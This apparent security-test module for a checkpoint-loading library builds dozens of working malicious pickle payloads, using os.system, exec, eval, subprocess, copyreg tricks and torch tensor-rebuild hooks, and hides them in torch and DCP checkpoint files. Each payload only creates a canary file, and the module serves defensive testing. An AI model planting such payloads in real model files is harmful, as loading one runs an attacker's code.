"""Live malicious pickles, and checkpoint files and directories that carry them.

Every payload, unpickled by an unsafe unpickler (``pickle.loads``, ``torch.load(...,
weights_only=False)``, DCP's own ``dcp.load``), creates a *canary* file: an absolute path baked
into the payload when it is generated. A security test runs each payload through each entry
point of pytest-ckpt and asserts that no canary appeared (and, for the kinds that name
``tests.hostile.evil_module``, that the module was not imported).

- :data:`PAYLOAD_KINDS`: kind name -> ``make(canary_path) -> bytes``, a complete pickle whose
  top-level object is a checkpoint-like dict; each kind is a distinct route to code execution.
- :func:`detonates`: proves a kind live, by ``pickle.loads`` in a fresh interpreter.
- :data:`ENTRY_CONTAINERS`: container name -> ``write(directory, payload) -> Path`` (a torch
  zip, a legacy torch file, a bare pickle, goldens, a DCP ``.metadata``), and
  :data:`DCP_CANARY_WRITERS`: name -> ``write(directory, canary_path) -> Path`` for the DCP
  directories whose *data* files carry the payload.
- :func:`model_with_payload_extra_state`: a module whose state_dict pickles to a payload.

Nothing here imports ``tests.hostile.evil_module`` (it is named only as a string), so a test
process can use ``evil_module_imported()`` to tell whether a reader imported it. Run a payload
only in a subprocess (:func:`run_unsafe`), never in a test process.
"""

from __future__ import annotations

import dataclasses
import functools
import hashlib
import io
import json
import os
import pickle
import pickletools
import platform
import shlex
import struct
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import torch

ROOT = Path(__file__).resolve().parents[2]  # the repository: `tests.hostile` imports from here
EVIL_MODULE = "tests.hostile.evil_module"
CANARY_ENV = "PYTEST_CKPT_CANARY"  # = evil_module.CANARY_ENV
CANARY_ATTRIBUTE_PREFIX = "canary_"  # = evil_module.CANARY_ATTRIBUTE_PREFIX
EXTENSION_CODE = 0xF1  # the copyreg extension code the ext_registry payload registers
NESTING_DEPTH = 20


def evil_module_imported() -> bool:
    """Whether something in this process imported :mod:`tests.hostile.evil_module`."""
    return EVIL_MODULE in sys.modules


def forget_evil_module() -> None:
    """Drop :mod:`tests.hostile.evil_module` from ``sys.modules`` (after a test that imported
    it on purpose), so that :func:`evil_module_imported` detects the next import."""
    sys.modules.pop(EVIL_MODULE, None)


# -- opcodes -----------------------------------------------------------------------------
# Each helper returns the bytes of opcodes that push one value (none for _pickle/_framed).

def _u(text: str) -> bytes:
    """BINUNICODE (protocol 1+)."""
    data = text.encode("utf-8", "surrogatepass")
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def _short(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4+) when it fits, else BINUNICODE."""
    data = text.encode("utf-8", "surrogatepass")
    if len(data) > 255:
        return _u(text)
    return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data


def _int(value: int) -> bytes:
    return pickle.BININT + struct.pack("<i", value)


def _float(value: float) -> bytes:
    return pickle.BINFLOAT + struct.pack(">d", value)


def _global(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0+): ``find_class(module, name)``."""
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+); under PROTO 4 a dotted ``name`` is looked up attribute by
    attribute (``Path.touch``)."""
    return _short(module) + _short(name) + pickle.STACK_GLOBAL


def _tuple(*items: bytes) -> bytes:
    if len(items) <= 3:
        ops = (pickle.EMPTY_TUPLE, pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3)
        return b"".join(items) + ops[len(items)]
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def _list(*items: bytes) -> bytes:
    if not items:
        return pickle.EMPTY_LIST
    return pickle.EMPTY_LIST + pickle.MARK + b"".join(items) + pickle.APPENDS


def _dict(*pairs: tuple[bytes, bytes]) -> bytes:
    if not pairs:
        return pickle.EMPTY_DICT
    items = b"".join(key + value for key, value in pairs)
    return pickle.EMPTY_DICT + pickle.MARK + items + pickle.SETITEMS


def _call(func: bytes, *args: bytes) -> bytes:
    """REDUCE: ``func(*args)``, where ``func`` is any opcodes pushing a callable."""
    return func + _tuple(*args) + pickle.REDUCE


def _pickle(body: bytes, protocol: int = 2) -> bytes:
    return pickle.PROTO + bytes([protocol]) + body + pickle.STOP


def _framed(body: bytes) -> bytes:
    """Protocol 4 with one FRAME holding everything up to and including STOP."""
    frame = body + pickle.STOP
    return pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(frame)) + frame


def _binput(index: int) -> bytes:
    return pickle.BINPUT + bytes([index])


def _binget(index: int) -> bytes:
    return pickle.BINGET + bytes([index])


# -- protocol 0 (text) --------------------------------------------------------------------

def _p0_str(text: str) -> bytes:
    """UNICODE (``V``), escaped as pickle's protocol 0 writer does."""
    for char, escape in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a"),
                         ("\r", "\\u000d"), ("\x1a", "\\u001a")):
        text = text.replace(char, escape)
    return pickle.UNICODE + text.encode("raw-unicode-escape") + b"\n"


def _p0_checkpoint(payload: bytes) -> bytes:
    """``{"state_dict": {...}, "epoch": 3, "x": payload}`` in protocol 0 opcodes only."""
    floats = b"".join(pickle.FLOAT + repr(value).encode() + b"\n" for value in (0.5, -0.25))
    state = (pickle.MARK + _p0_str("layer.weight") + pickle.MARK + floats + pickle.LIST
             + pickle.DICT)
    return (pickle.MARK + _p0_str("state_dict") + state + _p0_str("epoch") + pickle.INT
            + b"3\n" + _p0_str("x") + payload + pickle.DICT)


# -- checkpoint-like containers -----------------------------------------------------------

def _state_dict(*extra: tuple[bytes, bytes]) -> bytes:
    """``{"layer.weight": [4 floats], "layer.bias": [2 floats], **extra}``."""
    weight = _list(*(_float(value) for value in (0.5, -0.25, 1.0, 0.0)))
    return _dict((_u("layer.weight"), weight), (_u("layer.bias"), _list(_float(0.1),
                                                                         _float(-0.1))), *extra)


def _checkpoint(payload: bytes, key: str = "x") -> bytes:
    """``{"state_dict": {...}, "epoch": 3, key: payload}``."""
    return _dict((_u("state_dict"), _state_dict()), (_u("epoch"), _int(3)), (_u(key), payload))


def touch_command(canary: str) -> str:
    """The shell command the system() payloads run."""
    return f"touch {shlex.quote(canary)}"


def _touch_source(canary: str) -> str:
    """Python source (a statement and an expression) that creates ``canary``."""
    return f"open({canary!r}, 'a').close()"


def _system(canary: str, module: str = "os") -> bytes:
    """``<module>.system("touch <canary>")``."""
    return _call(_global(module, "system"), _u(touch_command(canary)))


# -- payload kinds ------------------------------------------------------------------------

def reduce_os_system(canary: str) -> bytes:
    """GLOBAL 'os system' + REDUCE: ``os.system("touch <canary>")``."""
    return _pickle(_checkpoint(_system(canary)))


def reduce_posix_system(canary: str) -> bytes:
    """GLOBAL 'posix system' + REDUCE (what ``pickle.dumps(os.system)`` names on Linux)."""
    return _pickle(_checkpoint(_system(canary, "posix")))


def reduce_builtins_exec(canary: str) -> bytes:
    """``builtins.exec("open(<canary>, 'a').close()")``."""
    return _pickle(_checkpoint(_call(_global("builtins", "exec"), _u(_touch_source(canary)))))


def reduce_builtins_eval(canary: str) -> bytes:
    """``builtins.eval("__import__('pathlib').Path(<canary>).touch()")``."""
    source = f"__import__('pathlib').Path({canary!r}).touch()"
    return _pickle(_checkpoint(_call(_global("builtins", "eval"), _u(source))))


def reduce_builtins_open(canary: str) -> bytes:
    """``builtins.open(<canary>, "a")``: a file write, no code string at all."""
    return _pickle(_checkpoint(_call(_global("builtins", "open"), _u(canary), _u("a"))))


def reduce_subprocess_popen(canary: str) -> bytes:
    """``getattr(subprocess.Popen(["touch", <canary>]), "wait")()``: an argv list, and the
    ``wait`` makes the canary exist when unpickling returns."""
    popen = _call(_global("subprocess", "Popen"), _list(_u("touch"), _u(canary)))
    wait = _call(_global("builtins", "getattr"), popen, _u("wait"))
    return _pickle(_checkpoint(_call(wait)))


def reduce_pathlib_touch(canary: str) -> bytes:
    """Protocol 4: STACK_GLOBAL 'pathlib' 'Path.touch' (a dotted qualname) called on
    ``pathlib.Path(<canary>)``."""
    path = _call(_stack_global("pathlib", "Path"), _short(canary))
    return _framed(_checkpoint(_call(_stack_global("pathlib", "Path.touch"), path)))


def inst(canary: str) -> bytes:
    """Protocol 0 throughout: MARK, the command, INST 'os system' (``os.system(*args)``)."""
    payload = pickle.MARK + _p0_str(touch_command(canary)) + pickle.INST + b"os\nsystem\n"
    return _p0_checkpoint(payload) + pickle.STOP


def obj(canary: str) -> bytes:
    """Protocol 1 (binary opcodes, no PROTO): MARK, GLOBAL 'os system', the command, OBJ."""
    payload = pickle.MARK + _global("os", "system") + _u(touch_command(canary)) + pickle.OBJ
    return _checkpoint(payload) + pickle.STOP


def newobj(canary: str) -> bytes:
    """NEWOBJ: ``evil_module.Fuse.__new__(Fuse, <canary>)`` (``__new__`` writes it)."""
    payload = _global(EVIL_MODULE, "Fuse") + _tuple(_u(canary)) + pickle.NEWOBJ
    return _pickle(_checkpoint(payload))


def newobj_ex(canary: str) -> bytes:
    """Protocol 4 NEWOBJ_EX with kwargs: ``Fuse.__new__(Fuse, canary=<canary>)``."""
    payload = (_stack_global(EVIL_MODULE, "Fuse") + pickle.EMPTY_TUPLE
               + _dict((_short("canary"), _short(canary))) + pickle.NEWOBJ_EX)
    return _framed(_checkpoint(payload))


def build_setstate(canary: str) -> bytes:
    """A harmless ``evil_module.Detonator`` (NEWOBJ, no arguments), then BUILD with
    ``{"canary": <canary>}``: ``Detonator.__setstate__`` writes it."""
    payload = (_global(EVIL_MODULE, "Detonator") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
               + _dict((_u("canary"), _u(canary))) + pickle.BUILD)
    return _pickle(_checkpoint(payload))


def stack_global(canary: str) -> bytes:
    """Protocol 4 as the pickler writes it: FRAME, STACK_GLOBAL 'os' 'system', MEMOIZE after
    every push, REDUCE."""
    memo = pickle.MEMOIZE
    func = _short("os") + memo + _short("system") + memo + pickle.STACK_GLOBAL + memo
    payload = func + _short(touch_command(canary)) + memo + pickle.TUPLE1 + memo + pickle.REDUCE
    return _framed(_checkpoint(payload + memo))


def memo_indirection(canary: str) -> bytes:
    """GLOBAL 'os system' stored with BINPUT and popped before the first key; the REDUCE, in
    another value, takes its callable from BINGET (no GLOBAL next to the call)."""
    stash = _global("os", "system") + _binput(7) + pickle.POP
    call = _binget(7) + _tuple(_u(touch_command(canary))) + pickle.REDUCE
    return _pickle(_dict((stash + _u("state_dict"), _state_dict()), (_u("epoch"), _int(3)),
                         (_u("x"), call)))


def getattr_chain(canary: str) -> bytes:
    """``getattr(getattr(__import__("subprocess"), "os"), "system")(cmd)``: the only globals
    are ``builtins.__import__`` and ``builtins.getattr``."""
    attr = _global("builtins", "getattr")
    subprocess_module = _call(_global("builtins", "__import__"), _u("subprocess"))
    system = _call(attr, _call(attr, subprocess_module, _u("os")), _u("system"))
    return _pickle(_checkpoint(_call(system, _u(touch_command(canary)))))


def import_side_effect(canary: str) -> bytes:
    """GLOBAL 'tests.hostile.evil_module canary_<hex of canary>': importing the module is the
    attack. Two canaries: the import creates ``$PYTEST_CKPT_CANARY`` when the test set it (and
    leaves the module in ``sys.modules`` either way); the name lookup that follows the import
    in ``find_class`` creates ``canary`` itself (evil_module's PEP 562 ``__getattr__``), so
    this payload is live with no environment. A test that wants to catch a reader which
    imports and only then refuses should set ``PYTEST_CKPT_CANARY`` (``monkeypatch.setenv``)
    or check :func:`evil_module_imported`."""
    name = CANARY_ATTRIBUTE_PREFIX + canary.encode("utf-8").hex()
    return _pickle(_checkpoint(_global(EVIL_MODULE, name)))


def nested_deep(canary: str) -> bytes:
    """The os.system REDUCE 20 containers deep (dict -> list -> tuple -> dict ...), under
    ``"meta"`` beside a real-looking ``"state_dict"``."""
    value = _system(canary)
    for depth in range(NESTING_DEPTH, 0, -1):
        layer = depth % 3
        if layer == 1:
            value = _dict((_u(f"level{depth}"), value))
        elif layer == 2:
            value = _list(value)
        else:
            value = _tuple(value)
    return _pickle(_dict((_u("state_dict"), _state_dict()), (_u("meta"), value)))


def in_state_dict_value(canary: str) -> bytes:
    """The REDUCE as the value of ``state_dict["layer.extra_state"]``, next to weights."""
    extra = (_u("layer.extra_state"), _system(canary))
    return _pickle(_dict((_u("state_dict"), _state_dict(extra)), (_u("epoch"), _int(3))))


def as_dict_key(canary: str) -> bytes:
    """The REDUCE as a state_dict *key* (its result, an int, is hashable)."""
    extra = (_system(canary), _int(1))
    return _pickle(_dict((_u("state_dict"), _state_dict(extra)), (_u("epoch"), _int(3))))


def copyreg_reconstructor(canary: str) -> bytes:
    """``copyreg._reconstructor(logging.FileHandler, logging.FileHandler, <canary>)``:
    ``FileHandler.__init__(<canary>)`` opens (creates) the file."""
    handler = _global("logging", "FileHandler")
    payload = _call(_global("copyreg", "_reconstructor"), handler, handler, _u(canary))
    return _pickle(_checkpoint(payload))


def functools_partial(canary: str) -> bytes:
    """REDUCE ``functools.partial(os.system, cmd)``, then REDUCE the partial with ``()``."""
    partial = _call(_global("functools", "partial"), _global("os", "system"),
                    _u(touch_command(canary)))
    return _pickle(_checkpoint(_call(partial)))


def importlib_import_module(canary: str) -> bytes:
    """``getattr(importlib.import_module("os"), "system")(cmd)``."""
    module = _call(_global("importlib", "import_module"), _u("os"))
    system = _call(_global("builtins", "getattr"), module, _u("system"))
    return _pickle(_checkpoint(_call(system, _u(touch_command(canary)))))


def runpy_run_code(canary: str) -> bytes:
    """``runpy._run_code(source, {})``: runpy's ``exec`` of a source string."""
    payload = _call(_global("runpy", "_run_code"), _u(_touch_source(canary)), _dict())
    return _pickle(_checkpoint(payload))


def numpy_runstring(canary: str) -> bytes:
    """``numpy.testing._private.utils.runstring(source, {})``: an ``exec`` inside numpy
    (present in numpy 1.26 and 2.x)."""
    payload = _call(_global("numpy.testing._private.utils", "runstring"),
                    _u(_touch_source(canary)), _dict())
    return _pickle(_checkpoint(payload))


def ext_registry(canary: str) -> bytes:
    """``copyreg.add_extension("posix", "system", 0xF1)``, POP, then EXT1 0xF1 pushes
    ``posix.system`` (through ``find_class``) with no GLOBAL naming it; REDUCE. Registering
    is process-wide, but only an unsafe load runs it."""
    register = _call(_global("copyreg", "add_extension"), _u("posix"), _u("system"),
                     _int(EXTENSION_CODE))
    system = register + pickle.POP + pickle.EXT1 + bytes([EXTENSION_CODE])
    return _pickle(_checkpoint(_call(system, _u(touch_command(canary)))))


def persistent_id(canary: str) -> bytes:
    """BINPERSID whose id tuple ``("storage", <os.system REDUCE>, "0", "cpu", 4)`` holds the
    payload (torch pickles storages as such ids): the tuple is built, and the REDUCE run,
    before any ``persistent_load`` sees it. ``pickle.loads`` then fails (no persistent_load),
    after the canary exists."""
    saved_id = _tuple(_u("storage"), _system(canary), _u("0"), _u("cpu"), _int(4))
    extra = (_u("layer.storage"), saved_id + pickle.BINPERSID)
    return _pickle(_dict((_u("state_dict"), _state_dict(extra)), (_u("epoch"), _int(3))))


def torch_rebuild_with_hooks(canary: str) -> bytes:
    """``{"state_dict": {"weight": torch._utils._rebuild_tensor_v2(<storage '0', 4 floats>,
    0, (2, 2), (2, 1), False, hooks)}}`` where ``hooks`` is an ``OrderedDict`` holding the
    os.system REDUCE. Like the pickler, it builds ``hooks`` first (memo 1, then POP) and
    reuses it with BINGET, so the payload runs before the storage's BINPERSID: in
    ``torch.load`` of a torch zip from :func:`torch_zip_bytes` (whose ``data/0`` is a 2x2
    float weight) the file loads, hooks and all; plain ``pickle.loads`` fails at BINPERSID."""
    hooks = (_call(_global("collections", "OrderedDict")) + pickle.MARK + _u("hook")
             + _system(canary) + pickle.SETITEMS)
    stash = hooks + _binput(1) + pickle.POP
    storage = _tuple(_u("storage"), _global("torch", "FloatStorage"), _u("0"), _u("cpu"),
                     _int(4)) + pickle.BINPERSID
    tensor = _call(_global("torch._utils", "_rebuild_tensor_v2"), storage, _int(0),
                   _tuple(_int(2), _int(2)), _tuple(_int(2), _int(1)), pickle.NEWFALSE,
                   _binget(1))
    return _pickle(_dict((stash + _u("state_dict"), _dict((_u("weight"), tensor))),
                         (_u("epoch"), _int(3))))


class SystemCall:
    """Pickles to ``os.system(command)`` (``__reduce__``), the classic attacker object.
    ``copy``/``deepcopy`` give a copy without running anything (``deepcopy`` would otherwise
    call ``os.system`` through ``__reduce__``)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (self.command,))

    def __copy__(self) -> SystemCall:
        return SystemCall(self.command)

    def __deepcopy__(self, memo: dict[int, Any]) -> SystemCall:
        return SystemCall(self.command)

    def __repr__(self) -> str:
        return f"SystemCall({self.command!r})"


def pickler_made(canary: str) -> bytes:
    """What an attacker's tooling writes: ``pickle.dumps`` (protocol 2, memo and all) of a
    checkpoint dict holding a :class:`SystemCall` (GLOBAL 'posix system' + REDUCE)."""
    checkpoint = {"state_dict": {"layer.weight": [0.5, -0.25], "layer.bias": [0.1]},
                  "epoch": 3, "x": SystemCall(touch_command(canary))}
    return pickle.dumps(checkpoint, protocol=2)


PAYLOAD_KINDS: dict[str, Callable[[str], bytes]] = {
    "reduce_os_system": reduce_os_system,
    "reduce_posix_system": reduce_posix_system,
    "reduce_builtins_exec": reduce_builtins_exec,
    "reduce_builtins_eval": reduce_builtins_eval,
    "reduce_builtins_open": reduce_builtins_open,
    "reduce_subprocess_popen": reduce_subprocess_popen,
    "reduce_pathlib_touch": reduce_pathlib_touch,
    "inst": inst,
    "obj": obj,
    "newobj": newobj,
    "newobj_ex": newobj_ex,
    "build_setstate": build_setstate,
    "stack_global": stack_global,
    "memo_indirection": memo_indirection,
    "getattr_chain": getattr_chain,
    "import_side_effect": import_side_effect,
    "nested_deep": nested_deep,
    "in_state_dict_value": in_state_dict_value,
    "as_dict_key": as_dict_key,
    "copyreg_reconstructor": copyreg_reconstructor,
    "functools_partial": functools_partial,
    "importlib_import_module": importlib_import_module,
    "runpy_run_code": runpy_run_code,
    "numpy_runstring": numpy_runstring,
    "ext_registry": ext_registry,
    "persistent_id": persistent_id,
    "torch_rebuild_with_hooks": torch_rebuild_with_hooks,
    "pickler_made": pickler_made,
}

# The kinds whose pickle names tests.hostile.evil_module: a reader that imports a module before
# refusing its global imports it (check evil_module_imported(), or set PYTEST_CKPT_CANARY).
EVIL_MODULE_KINDS = frozenset({"newobj", "newobj_ex", "build_setstate", "import_side_effect"})


# -- proving payloads live ----------------------------------------------------------------

_PICKLE_LOADS = """\
import pickle, sys
try:
    pickle.loads(open(sys.argv[1], "rb").read())
except Exception as error:
    print(f"{type(error).__name__}: {error}"[:300])
"""

_TORCH_LOAD = """\
import sys
import torch
try:
    torch.load(sys.argv[1], weights_only=False)
except Exception as error:
    print(f"{type(error).__name__}: {error}"[:300])
"""

_DCP_LOAD = """\
import sys, warnings
import torch
import torch.distributed.checkpoint as dcp
state = eval(sys.argv[2], {"torch": torch})
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    try:
        if hasattr(dcp, "load"):
            dcp.load(state, checkpoint_id=sys.argv[1])
        else:  # torch < 2.2
            dcp.load_state_dict(state, dcp.FileSystemReader(sys.argv[1]), no_dist=True)
    except Exception as error:
        print(f"{type(error).__name__}: {error}"[:300])
"""


def run_unsafe(code: str, args: list[str], canary: Path, *, env_canary: str | None = None,
               python: str | None = None, timeout: float = 300) -> tuple[bool, str]:
    """Run ``code`` (an unsafe load) in a fresh interpreter in the repository (so
    ``tests.hostile`` imports), with ``$PYTEST_CKPT_CANARY`` unset unless ``env_canary``;
    whether ``canary`` appeared, and the output."""
    canary.unlink(missing_ok=True)
    env = {key: value for key, value in os.environ.items() if key != CANARY_ENV}
    if env_canary is not None:
        env[CANARY_ENV] = env_canary
    completed = subprocess.run([python or sys.executable, "-c", code, *args], cwd=ROOT,
                               env=env, capture_output=True, text=True, timeout=timeout,
                               check=False)
    return canary.exists(), (completed.stdout + completed.stderr).strip()


def canary_path(directory: Path, name: str) -> Path:
    """An absolute canary path in ``directory`` (not created)."""
    return Path(directory).resolve() / f"{name}.canary"


def detonates(kind: str, tmp_dir: Path) -> bool:
    """Whether ``pickle.loads`` of the ``kind`` payload, in a subprocess, creates its canary."""
    canary = canary_path(tmp_dir, kind)
    path = Path(tmp_dir).resolve() / f"{kind}.pkl"
    path.write_bytes(PAYLOAD_KINDS[kind](str(canary)))
    return run_unsafe(_PICKLE_LOADS, [str(path)], canary)[0]


def torch_load_detonates(path: Path, canary: Path, **options: Any) -> tuple[bool, str]:
    """Whether ``torch.load(path, weights_only=False)`` in a subprocess creates ``canary``."""
    return run_unsafe(_TORCH_LOAD, [str(Path(path).resolve())], canary, **options)


def dcp_load_detonates(directory: Path, canary: Path, state: str = "{'step': 0}",
                       **options: Any) -> tuple[bool, str]:
    """Whether DCP's own ``dcp.load(<state>, checkpoint_id=directory)`` (``state`` is a Python
    expression; ``torch`` is in scope) in a subprocess creates ``canary``."""
    return run_unsafe(_DCP_LOAD, [str(Path(directory).resolve()), state], canary,
                      **options)


# -- torch files --------------------------------------------------------------------------

def _linear_state() -> dict[str, torch.Tensor]:
    """A real 2x2 Linear's state_dict: ``data/0`` the weight (4 floats), ``data/1`` the bias."""
    import torch

    torch.manual_seed(0)
    return torch.nn.Linear(2, 2).state_dict()


def _torch_save_bytes(obj: Any, **options: Any) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer, **options)
    return buffer.getvalue()


def _aligned_zip(entries: list[tuple[str, bytes]]) -> bytes:
    """A ZIP_STORED archive of ``entries`` whose data start on 64-byte boundaries, padded
    with an ``FB`` extra field as ``torch.save`` does."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED
            header = 30 + len(name.encode()) + 4
            pad = -(out.tell() + header) % 64
            info.extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
            archive.writestr(info, data)
    return out.getvalue()


def replace_zip_entry(archive: bytes, suffix: str, data: bytes) -> bytes:
    """``archive`` with the entry whose name ends with ``suffix`` (e.g. ``/data.pkl``) holding
    ``data``; entry names, order and the other entries kept."""
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        entries = [(info.filename, source.read(info)) for info in source.infolist()]
    if not any(name.endswith(suffix) for name, _ in entries):
        raise ValueError(f"no entry ending with {suffix!r}")
    return _aligned_zip([(name, data if name.endswith(suffix) else content)
                         for name, content in entries])


def torch_zip_bytes(payload: bytes, obj: Any = None) -> bytes:
    """A real ``torch.save`` zip of ``obj`` (default ``{"state_dict": <Linear(2, 2)>}``)
    whose ``data.pkl`` is ``payload``; the storages ``data/0``, ``data/1`` stay."""
    base = {"state_dict": _linear_state()} if obj is None else obj
    return replace_zip_entry(_torch_save_bytes(base), "/data.pkl", payload)


def torch_zip_with_payload(directory: Path, payload: bytes, name: str = "evil.pt") -> Path:
    """``directory/name``: :func:`torch_zip_bytes` of ``payload``."""
    return _write(Path(directory) / name, torch_zip_bytes(payload))


def _pickles_end(data: bytes, count: int) -> int:
    """The offset just past the first ``count`` pickles of ``data`` (read, not run)."""
    stream = io.BytesIO(data)
    for _ in range(count):
        for _op, _arg, _pos in pickletools.genops(stream):
            pass
    return stream.tell()


def legacy_with_payload(directory: Path, payload: bytes, name: str = "evil_legacy.pt") -> Path:
    """``directory/name`` in the legacy (non-zip) torch format: the real magic-number,
    protocol and sys_info pickles of ``torch.save(..., _use_new_zipfile_serialization=False)``,
    then ``payload`` as the object pickle, then a pickled empty list of storage keys."""
    real = _torch_save_bytes({"state_dict": _linear_state()},
                             _use_new_zipfile_serialization=False)
    head = real[:_pickles_end(real, 3)]
    return _write(Path(directory) / name, head + payload + pickle.dumps([], protocol=2))


def bare_pickle_with_payload(directory: Path, payload: bytes, name: str = "evil_bare.pt"
                             ) -> Path:
    """``directory/name`` holding ``payload`` alone (``torch.load`` takes a non-zip file for
    the legacy format and unpickles its first pickle as the magic number)."""
    return _write(Path(directory) / name, payload)


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


# -- goldens ------------------------------------------------------------------------------

def golden_with_payload(golden_dir: Path, payload: bytes, *, forge_sidecar: bool,
                        label: str = "torch-2.13", test: str = "test_hostile.py::test_golden"
                        ) -> Path:
    """``golden_dir/<label>.pt``: a golden of a ``Linear(2, 2)`` whose ``data.pkl`` is
    ``payload``, and its ``<label>.json`` sidecar (``pytest-ckpt golden v1``, as
    ``pytest_ckpt.golden.serialise`` writes it). ``forge_sidecar=False``: the sidecar's
    ``bytes``/``sha256`` are the hostile file's (an attacker who edits both in a pull request);
    ``True``: they are the honest golden's, which the hostile file replaced."""
    import torch

    import pytest_ckpt
    from pytest_ckpt.checkpoint.manifest import Manifest

    torch.manual_seed(0)
    model = torch.nn.Linear(2, 2)
    honest = _torch_save_bytes(model.state_dict())
    hostile = replace_zip_entry(honest, "/data.pkl", payload)
    recorded = honest if forge_sidecar else hostile
    sidecar = {
        "schema": "pytest-ckpt golden v1",
        "test": test,
        "torch": torch.__version__,
        "python": platform.python_version(),
        "platform": f"{platform.system()}-{platform.machine()}",
        "pytest_ckpt": pytest_ckpt.__version__,
        "format": "torch.save (zip), a bare state_dict",
        "seed": 0,
        "bytes": len(recorded),
        "sha256": hashlib.sha256(recorded).hexdigest(),
        "manifest": Manifest.from_module(model).render().splitlines(),
        "inputs": None,
        "outputs": None,
    }
    path = _write(Path(golden_dir) / f"{label}.pt", hostile)
    path.with_suffix(".json").write_text(json.dumps(sidecar, indent=1) + "\n", encoding="utf-8")
    return path


# -- torch.distributed.checkpoint ---------------------------------------------------------

def _dcp_save(state: dict[str, Any], directory: Path) -> Path:
    """A real one-process DCP checkpoint of ``state`` in ``directory``."""
    import torch.distributed.checkpoint as dcp

    directory.mkdir(parents=True, exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        if hasattr(dcp, "save"):
            dcp.save(state, checkpoint_id=str(directory))
        else:  # torch < 2.2
            dcp.save_state_dict(state, dcp.FileSystemWriter(str(directory)), no_dist=True)
    return directory


def _dcp_state() -> dict[str, Any]:
    """``{"w": zeros(3), "step": 5}``: one tensor, one non-tensor (a BytesStorageMetadata)."""
    import torch

    return {"w": torch.zeros(3), "step": 5}


def read_dcp_metadata(directory: Path) -> Any:
    """``.metadata`` as DCP reads it (plain ``pickle``): only for directories this module
    wrote, before any payload went into them."""
    with open(Path(directory) / ".metadata", "rb") as stream:
        return pickle.load(stream)


def write_dcp_metadata(directory: Path, metadata: Any) -> None:
    """``.metadata`` as DCP writes it: ``pickle.dump`` of the ``Metadata``."""
    with open(Path(directory) / ".metadata", "wb") as stream:
        pickle.dump(metadata, stream)


def replace_dcp_entry(directory: Path, metadata: Any, fqn: str, data: bytes) -> None:
    """Put ``data`` where the (first) stored item of ``fqn`` was in its ``.distcp`` file, and
    fix ``metadata.storage_data``: that item's length, and the offsets of the items after it
    in the same file. Write the metadata back with :func:`write_dcp_metadata`."""
    index = next(key for key in metadata.storage_data if key.fqn == fqn)
    info = metadata.storage_data[index]
    file = Path(directory) / info.relative_path
    blob = file.read_bytes()
    file.write_bytes(blob[:info.offset] + data + blob[info.offset + info.length:])
    delta = len(data) - info.length
    for key, other in list(metadata.storage_data.items()):
        if other.relative_path == info.relative_path and other.offset > info.offset:
            metadata.storage_data[key] = dataclasses.replace(other, offset=other.offset + delta)
    metadata.storage_data[index] = dataclasses.replace(info, length=len(data))


def _entry_payload(canary: str, kind: str, wrap: str) -> bytes:
    """The bytes a DCP data entry gets: the ``kind`` payload, as a torch zip's ``data.pkl``
    (``wrap="zip"``: ``torch.load`` then *succeeds*) or bare (``"plain"``: ``torch.load``
    unpickles it as the legacy magic number, then fails)."""
    payload = PAYLOAD_KINDS[kind](canary)
    return torch_zip_bytes(payload) if wrap == "zip" else payload


def dcp_with_payload_metadata(directory: Path, payload: bytes) -> Path:
    """A real DCP checkpoint in ``directory`` whose ``.metadata`` is ``payload`` (DCP reads it
    with plain ``pickle.load``)."""
    _dcp_save(_dcp_state(), Path(directory))
    (Path(directory) / ".metadata").write_bytes(payload)
    return Path(directory)


def dcp_with_payload_bytes_entry(directory: Path, canary_path: str, *,
                                 kind: str = "reduce_os_system", wrap: str = "zip") -> Path:
    """A real DCP checkpoint in ``directory`` whose non-tensor entry ``step`` (a
    BytesStorageMetadata; its bytes a ``torch.save`` in the ``.distcp`` file) holds the
    ``kind`` payload instead; ``.metadata`` (only DCP's own types) rewritten to match. DCP's
    planner reads such entries with ``torch.load(..., weights_only=False)``: a plain
    ``dcp.load({"step": 0}, checkpoint_id=directory)`` creates the canary."""
    directory = _dcp_save(_dcp_state(), Path(directory))
    metadata = read_dcp_metadata(directory)
    replace_dcp_entry(directory, metadata, "step", _entry_payload(canary_path, kind, wrap))
    write_dcp_metadata(directory, metadata)
    return directory


def dcp_bytes_entry_disguised_as_tensor(directory: Path, canary_path: str, *,
                                        kind: str = "reduce_os_system", wrap: str = "zip"
                                        ) -> Path:
    """:func:`dcp_with_payload_bytes_entry`, with the ``step`` entry's BytesStorageMetadata
    also carrying ``properties`` (float32), ``size`` ([3]) and ``chunks`` as a tensor entry
    has: a reader that trusts ``getattr(item, "properties")`` allocates a tensor for it, yet
    ``dcp.load`` still reads it as bytes (``isinstance`` decides) and ``torch.load``s it."""
    import torch
    from torch.distributed.checkpoint.metadata import ChunkStorageMetadata, TensorProperties

    directory = dcp_with_payload_bytes_entry(directory, canary_path, kind=kind, wrap=wrap)
    metadata = read_dcp_metadata(directory)
    item = metadata.state_dict_metadata["step"]
    object.__setattr__(item, "properties", TensorProperties(dtype=torch.float32))
    object.__setattr__(item, "size", torch.Size([3]))
